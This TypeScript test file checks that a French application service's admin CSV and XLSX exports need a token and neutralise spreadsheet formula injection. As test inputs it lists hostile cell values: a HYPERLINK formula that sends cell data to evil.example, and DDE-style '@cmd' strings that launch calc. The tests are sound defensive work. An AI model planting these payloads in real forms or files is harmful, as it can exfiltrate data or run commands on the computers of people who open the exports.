// Admin exports of the applications (three CSV files, one XLSX workbook) and of webinar registrations,
// read back as a spreadsheet would: with `,` and with `;` as separator (French Excel). No cell may start
// a formula in either reading.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { createWebinar } from '../src/services/webinars.js';
import { ADMIN_TOKEN, DIALECTS, json, testApp, type TestApp } from './helpers.js';
import { application } from './participations-fixture.js';

/** Free text as an attacker would type it in a public form, aimed at both kinds of CSV reader. */
const HOSTILE = [
  'Mme X;=1+1',
  'Merci;=HYPERLINK("https://evil.example/?"&A2;"x")',
  'a,+SUM(1)',
  "Ligne;@cmd|' /C calc'!A0",
  'rue ; -2+3',
  "Ligne\n@cmd|' /C calc'!A0",
  'tab\t-2+3',
];

/** The cells a reader splitting on `separator` sees (quotes honoured, as spreadsheet software does). */
const read = (csv: string, delimiter: ',' | ';') =>
  parse(csv.replace(/^\uFEFF/, ''), { delimiter, relax_column_count: true, relax_quotes: true, skip_empty_lines: true }) as string[][];

function assertNoFormula(csv: string, what: string) {
  for (const delimiter of [',', ';'] as const) {
    for (const row of read(csv, delimiter)) {
      for (const cell of row) {
        assert.doesNotMatch(
          cell.trimStart(),
          /^[=+\-@]/,
          `${what}, read with "${delimiter}": a cell starts a formula: ${JSON.stringify(cell)}`,
        );
      }
    }
  }
}

for (const dialect of DIALECTS) {
  describe(`admin exports (${dialect})`, () => {
    let t: TestApp;
    const reference: string[] = [];
    before(async () => {
      t = await testApp(dialect, { RATE_LIMIT_EMAIL_MAX: '100000' });
      const hostile = {
        ...application,
        signerName: HOSTILE[0],
        contactName: HOSTILE[2],
        message: `${HOSTILE[1]}\n${HOSTILE[5]}`,
        projectDescription: `${HOSTILE[3]}\n${HOSTILE[6]}`,
        prescribers: [{ organisation: HOSTILE[1], kind: 'autre', email: 'x@example.org' }],
        structures: [{ ...application.structures[0], name: HOSTILE[0], address: HOSTILE[4] }],
      };
      for (const [i, body] of [application, hostile].entries()) {
        const r = await t.app.inject({
          method: 'POST',
          url: '/v1/participations',
          payload: body,
          headers: { 'idempotency-key': `export-${i}` },
        });
        assert.equal(r.statusCode, 201, r.body);
        reference.push(json(r.body).reference);
      }
    });
    after(() => t.close());
    const get = (url: string, token = ADMIN_TOKEN) => t.app.inject({ url, headers: { authorization: `Bearer ${token}` } });

    test('each export needs the admin token', async () => {
      for (const url of [
        '/v1/admin/participations.csv',
        '/v1/admin/participation-prescribers.csv',
        '/v1/admin/participation-structures.csv',
        '/v1/admin/participations.xlsx',
      ]) {
        assert.equal((await t.app.inject({ url })).statusCode, 401, url);
        assert.equal((await get(url, `${ADMIN_TOKEN}x`)).statusCode, 401, url);
        const ok = await get(url);
        assert.equal(ok.statusCode, 200, url);
        assert.equal(ok.headers['cache-control'], 'no-store');
      }
      assert.equal(
        (await t.app.inject({ url: '/v1/admin/participations.csv', headers: { authorization: `bearer ${ADMIN_TOKEN}` } })).statusCode,
        200,
        'scheme is case-insensitive',
      );
    });

    test('the applications CSV has every field, one row per application', async () => {
      const r = await get('/v1/admin/participations.csv');
      assert.match(String(r.headers['content-type']), /^text\/csv/);
      const [header, ...rows] = read(r.body, ',');
      assert.deepEqual(header, [
        'reference',
        'received_at',
        'commune_code',
        'commune',
        'signer_name',
        'signer_role',
        'contact_name',
        'role',
        'email',
        'phone',
        'components',
        'people_2024',
        'people_2025',
        'people_2026',
        'prescribers',
        'structures',
        'project_description',
        'project_cost',
        'message',
        'consent',
      ]);
      assert.equal(rows.length, 2);
      const first = Object.fromEntries(header!.map((h, i) => [h, rows[0]![i]]));
      assert.deepEqual(
        { ...first, received_at: undefined },
        {
          reference: reference[0],
          received_at: undefined,
          commune_code: '93048',
          commune: 'Montreuil',
          signer_name: 'Patrice Bessac',
          signer_role: 'Maire',
          contact_name: 'Awa Diallo',
          role: 'Cheffe de projet inclusion numérique',
          email: 'awa.diallo@example.org',
          phone: '01 23 45 67 89',
          components: 'places|support',
          people_2024: '120',
          people_2025: '300',
          people_2026: '450',
          prescribers: '2',
          structures: '2',
          project_description: 'Un lieu de médiation au centre social.',
          project_cost: '85000',
          message: `'=HYPERLINK("http://evil.example")`,
          consent: 'yes',
        },
      );
    });

    test('prescribers and structures CSVs: one row each, linked by the reference', async () => {
      const prescribers = read((await get('/v1/admin/participation-prescribers.csv')).body, ',');
      assert.deepEqual(prescribers[0], ['reference', 'commune_code', 'position', 'organisation', 'kind', 'email']);
      assert.deepEqual(prescribers.slice(1, 3), [
        [reference[0], '93048', '1', 'CCAS de Montreuil', 'ccas', 'ccas@example.org'],
        [reference[0], '93048', '2', 'Bureau de poste Croix-de-Chavaux', 'la-poste', 'poste@example.org'],
      ]);
      assert.equal(prescribers[3]![0], reference[1]);
      const structures = read((await get('/v1/admin/participation-structures.csv')).body, ',');
      assert.deepEqual(structures[0], ['reference', 'commune_code', 'position', 'name', 'status', 'siret', 'address', 'people_per_year']);
      assert.deepEqual(structures[1], [
        reference[0],
        '93048',
        '1',
        'Maison du numérique',
        'associative',
        '73282932000074',
        '1 rue de Paris, 93100 Montreuil',
        '200',
      ]);
      assert.equal(structures.length, 1 + 3);
    });

    test('no export starts a formula, read with "," or with ";"', async () => {
      for (const url of [
        '/v1/admin/participations.csv',
        '/v1/admin/participation-prescribers.csv',
        '/v1/admin/participation-structures.csv',
      ]) {
        assertNoFormula((await get(url)).body, url);
      }
      // The text stays readable: only an apostrophe is added where a cell could start.
      const rows = read((await get('/v1/admin/participations.csv')).body, ',');
      assert.equal(rows[2]![4], "Mme X;'=1+1");
    });

    test('the webinar registrations export is formula-safe too', async () => {
      await createWebinar(t.db, {
        id: 'export-session',
        title: 'Session',
        description: 'd',
        startsAt: '2030-01-01T09:00:00.000Z',
        endsAt: '2030-01-01T10:00:00.000Z',
        capacity: 5,
      });
      const now = new Date().toISOString();
      for (const [i, name] of HOSTILE.entries()) {
        await t.db
          .insertInto('registrations')
          .values({
            token_hash: `tok-${i}`,
            webinar_id: 'export-session',
            name,
            email: `p${i}@example.org`,
            email_key: `p${i}@example.org`,
            organisation: HOSTILE[(i + 1) % HOSTILE.length]!,
            commune: 'Bellerive;=1',
            status: 'registered',
            created_at: now,
            updated_at: now,
          } as never)
          .execute();
      }
      const r = await get('/v1/admin/webinars/export-session/registrations.csv');
      assert.equal(r.statusCode, 200);
      assertNoFormula(r.body, 'registrations');
      assert.equal(read(r.body, ',').length, 1 + HOSTILE.length);
    });

    test('the XLSX workbook has three sheets, text cells only, never a formula', async () => {
      const r = await get('/v1/admin/participations.xlsx');
      assert.match(String(r.headers['content-type']), /spreadsheetml/);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
      assert.deepEqual(
        workbook.worksheets.map((w) => w.name),
        ['candidatures', 'prescripteurs', 'structures'],
      );
      const [applications, prescribers, structures] = workbook.worksheets;
      assert.equal(applications!.rowCount, 3);
      assert.equal(prescribers!.rowCount, 1 + 3);
      assert.equal(structures!.rowCount, 1 + 3);
      for (const sheet of workbook.worksheets) {
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `${sheet.name}!${cell.address} is a formula`);
            assert.ok(
              [ExcelJS.ValueType.String, ExcelJS.ValueType.Number, ExcelJS.ValueType.SharedString, ExcelJS.ValueType.RichText].includes(
                cell.type,
              ),
              `${sheet.name}!${cell.address}: type ${cell.type}`,
            );
          }),
        );
      }
      // Text kept as typed: a text cell is never run, so it needs no apostrophe.
      assert.equal(applications!.getRow(3).getCell(19).text, `${HOSTILE[1]}\n${HOSTILE[5]}`);
      assert.equal(structures!.getRow(2).getCell(6).text, '73282932000074');
    });
  });
}
